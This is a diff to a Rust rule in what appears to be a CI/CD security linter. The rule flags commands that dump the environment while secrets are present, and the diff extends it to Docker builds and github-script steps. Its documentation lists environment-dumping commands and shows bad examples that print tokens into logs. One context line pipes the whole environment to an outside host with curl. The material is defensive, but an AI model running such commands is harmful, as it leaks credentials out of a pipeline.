@@ -3,7 +3,8 @@
 //! A command that prints its whole environment (`env`, `printenv`, `set`, `export -p`, `cat /proc/self/environ`, `gci env:`,
 //! `print(os.environ)`, `node -p process.env` …) where a secret is in that environment: of the step, the job, the workflow, left by an earlier
 //! step, exported by a component, or put there by the system. Scripts of the repository that a step calls count, and so do its composite
-//! actions.
+//! actions. In an image build, arguments with the name of a secret and secrets that are mounted as variables are in it; in the script of
+//! `actions/github-script`, `console.log(process.env)` prints it.
 //!
 //! # Why
 //!
@@ -91,6 +92,37 @@
 //!       - run: env | curl -d @- https://collect.corp.io
 //! ```
 //!
+//! ```dockerfile Dockerfile bad default
+//! FROM python:3.12.4-slim
+//! RUN --mount=type=secret,id=pypi,env=PYPI_TOKEN env | sort
+//! ```
+//!
+//! ```dockerfile Dockerfile bad default
+//! FROM python:3.12.4-slim
+//! ARG NPM_TOKEN
+//! RUN printenv
+//! ```
+//!
+//! ```yaml .github/workflows/ci.yml bad default
+//! on: push
+//! jobs:
+//!   test:
+//!     runs-on: ubuntu-24.04
+//!     env:
+//!       T: ${{ secrets.DEPLOY_KEY }}
+//!     steps:
+//!       - uses: actions/github-script@v7
+//!         with:
+//!           script: console.log(process.env)
+//! ```
+//!
+//! ```dockerfile Dockerfile good
+//! FROM python:3.12.4-slim
+//! ARG VERSION=1.2.3
+//! RUN env | sort
+//! RUN --mount=type=secret,id=pypi,target=/run/token ./publish --token-file /run/token
+//! ```
+//!
 //! ```yaml .github/workflows/ci.yml good
 //! on: pull_request
 //! jobs:
@@ -117,16 +149,19 @@
 //!
 //! In 52 public repositories: 1 finding in 1 of them.
 
+use crate::model::container::ContainerBuild;
 use crate::model::dialect::Masks;
 use crate::model::finding::{Finding, Findings, Remedy};
 use crate::model::kept;
+use crate::model::pipeline::{Job, Pipeline, StepKind, Value};
 use crate::model::project::{Project, Site};
 use crate::model::rule::Level::{Error, Info, Warning};
 use crate::model::rule::{Group, Rule, levels};
 use crate::model::script::{Deed, Dump, DumpSink, Kept};
 use crate::model::secrets::place::{advice, listed};
 use crate::model::secrets::runners::Sorted;
-use crate::model::secrets::{Reach, Readable, Runner, Runners, looks_secret};
+use crate::model::secrets::{Reach, Readable, Runner, Runners, dumps, looks_secret};
+use crate::model::span::Location;
 use std::collections::HashSet;
 
 /// The rule.
@@ -151,9 +186,50 @@ fn check(project: &Project, findings: &mut Findings) {
     let mut told = HashSet::new();
     for site in project.run_commands().into_iter().filter(|site| told.insert(site.command.at)) {
         for dump in site.command.deeds.iter().filter_map(dump) {
-            of_dump(project, &runners, &site, dump).into_iter().for_each(|finding| findings.push(finding));
+            let finding = match site.build.filter(|_| !dump.sinks.contains(&DumpSink::Network)) {
+                Some(build) => of_build(project, build, &site, dump),
+                None => of_dump(project, &runners, &site, dump),
+            };
+            finding.into_iter().for_each(|finding| findings.push(finding));
         }
     }
+    for facts in &project.facts {
+        for pipeline in facts.pipelines.iter().chain(&facts.components) {
+            for job in &pipeline.jobs {
+                let found = (0..job.steps.len()).filter_map(|index| of_component(project, pipeline, job, index));
+                found.for_each(|finding| findings.push(finding));
+            }
+        }
+    }
+}
+
+/// A `RUN` that prints its environment: arguments of the build and secrets mounted as variables are in it.
+fn of_build(project: &Project, build: &ContainerBuild, site: &Site, dump: &Dump) -> Option<Finding> {
+    let mut readable = project.secrets_in_build(build, site.script);
+    readable.retain(|one| dump.kept.lets(&one.variable));
+    let sorted = Sorted::of(project, readable);
+    let (kind, shown) = if sorted.secrets.is_empty() { ("minor", &sorted.minor) } else { ("secret", &sorted.secrets) };
+    shown.first()?;
+    let names: Vec<&str> = shown.iter().map(|one| one.variable.as_str()).collect();
+    let how = &dump.how;
+    let message = format!("`{how}` prints {} into the log of the image build, where nothing is masked", listed(names.iter().copied()));
+    let help = "keep the report; mount the secret as a file in the one `RUN` that reads it: `--mount=type=secret,id=NAME`";
+    let finding = Findings::finding(&RULE, kind, site.command.at, message).help(help).about(format!("build.{how}"), names.join(" "));
+    let label = |finding: Finding, one: &Readable| finding.label(one.at, format!("`{}` comes into the environment here", one.variable));
+    Some(shown.iter().take(4).fold(finding, label).remedy(Remedy::Guide(help.to_string())))
+}
+
+/// A component whose script prints its environment (`actions/github-script`).
+fn of_component(project: &Project, pipeline: &Pipeline, job: &Job, index: usize) -> Option<Finding> {
+    let StepKind::Uses { inputs, .. } = &job.steps[index].kind else { return None };
+    let script = inputs.iter().find(|input| input.name == "script")?;
+    let (Value::Literal(code) | Value::Expression(code)) = &script.value else { return None };
+    dumps::in_javascript(code)?;
+    let dump = Dump { how: "process.env".to_string(), kept: Kept::All, sinks: vec![DumpSink::Log] };
+    let runner = Runner::of_step(pipeline, job, index);
+    let sorted = Sorted::of(project, runner.secrets(project));
+    let (_, kind) = kind(&runner, &sorted, &dump)?;
+    Some(report(project, script.at, &dump, kind, &runner, &sorted))
 }
 
 fn dump(deed: &Deed) -> Option<&Dump> {
@@ -182,7 +258,7 @@ fn of_dump<'p>(project: &'p Project, runners: &Runners<'p>, site: &Site<'p>, dum
     }
     ranked.sort_by_key(|(rank, ..)| *rank);
     let (_, kind, runner, sorted) = ranked.first()?;
-    let mut finding = report(project, site, dump, kind, runner, sorted);
+    let mut finding = report(project, site.command.at, dump, kind, runner, sorted);
     for (_, _, other, _) in ranked.iter().skip(1) {
         finding = finding.label(other.at(), format!("run by step `{}` of job `{}` too", other.step().name, other.job.id));
     }
@@ -200,7 +276,7 @@ fn is_kept(project: &Project, runner: &Runner, dump: &Dump) -> bool {
 
 fn component(project: &Project, runner: &Runner, index: usize) -> String {
     match &runner.job.steps[index].kind {
-        crate::model::pipeline::StepKind::Uses { component, .. } => project.reference(*component).subject.name.clone(),
+        StepKind::Uses { component, .. } => project.reference(*component).subject.name.clone(),
         _ => String::new(),
     }
 }
@@ -218,7 +294,7 @@ fn kind(runner: &Runner, sorted: &Sorted, dump: &Dump) -> Option<(usize, &'stati
     }
 }
 
-fn report(project: &Project, site: &Site, dump: &Dump, kind: &str, runner: &Runner, sorted: &Sorted) -> Finding {
+fn report(project: &Project, at: Location, dump: &Dump, kind: &str, runner: &Runner, sorted: &Sorted) -> Finding {
     let system = runner.pipeline.system;
     let shown: Vec<&Readable> = match kind {
         "secret" => &sorted.secrets,
@@ -261,7 +337,7 @@ fn report(project: &Project, site: &Site, dump: &Dump, kind: &str, runner: &Runn
         }
     };
     let key = format!("{}.{}", runner.step().key, how);
-    let mut finding = Findings::finding(&RULE, kind, site.command.at, message).help(help.clone()).about(key, names.join(" ")).remedy(Remedy::Guide(help));
+    let mut finding = Findings::finding(&RULE, kind, at, message).help(help.clone()).about(key, names.join(" ")).remedy(Remedy::Guide(help));
     if runner.call.is_some() {
         finding = finding.label(runner.at(), format!("run by step `{}` of job `{}`", runner.step().name, runner.job.id));
     }
